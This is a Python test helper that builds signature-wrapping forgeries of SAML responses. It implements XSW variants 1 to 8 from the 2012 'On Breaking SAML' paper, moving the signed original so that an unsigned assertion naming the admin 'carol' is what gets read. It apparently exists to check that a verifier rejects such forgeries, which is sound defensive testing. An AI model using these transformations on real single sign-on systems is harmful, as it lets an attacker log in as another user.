"""Signature wrapping, variants 1 to 8 (Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be", 2012)."""

from __future__ import annotations

from copy import deepcopy

from lxml import etree

from tests.saml_kit import DS, SAML, SAMLP, assertion_of


def _without_signature(element: etree._Element) -> etree._Element:
    clone = deepcopy(element)
    for signature in clone.findall(DS + "Signature"):
        clone.remove(signature)
    return clone


def _evil(element: etree._Element) -> etree._Element:
    """Carol the admin's name in place of Alice's, under another ID."""
    element.set("ID", "_evil-" + element.get("ID", "").lstrip("_"))
    for name in element.iter(SAML + "NameID"):
        name.text = "carol"
    return element


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(DS + "Signature")
    assert found is not None
    return found


def wrap(root: etree._Element, variant: int) -> etree._Element:
    """XSW `variant` 1 to 8 over the signed element of `root`: 1 and 2 wrap the Response, 3 to 8 the Assertion."""
    if variant in (1, 2):
        original = _without_signature(root)
        _evil(root)
        _without = [a for a in root.findall(SAML + "Assertion") if a.find(DS + "Signature") is not None]
        for assertion in _without:
            assertion.remove(_signature(assertion))
            assertion.set("ID", "_evil-assertion")
        signature = _signature(root)
        if variant == 1:
            signature.append(original)
        else:
            signature.addprevious(original)
        return root
    assertion = assertion_of(root)
    original = deepcopy(assertion)
    if variant == 3:
        assertion.addprevious(_evil(_without_signature(assertion)))
    elif variant == 4:
        evil = _evil(_without_signature(assertion))
        root.replace(assertion, evil)
        evil.append(original)
    elif variant == 5:
        _evil(assertion)
        root.append(_without_signature(original))
    elif variant == 6:
        _evil(assertion)
        _signature(assertion).append(_without_signature(original))
    elif variant == 7:
        extensions = etree.Element(SAMLP + "Extensions")
        extensions.append(_evil(_without_signature(assertion)))
        assertion.addprevious(extensions)
    elif variant == 8:
        _evil(assertion)
        holder = etree.SubElement(_signature(assertion), DS + "Object")
        holder.append(_without_signature(original))
    return root
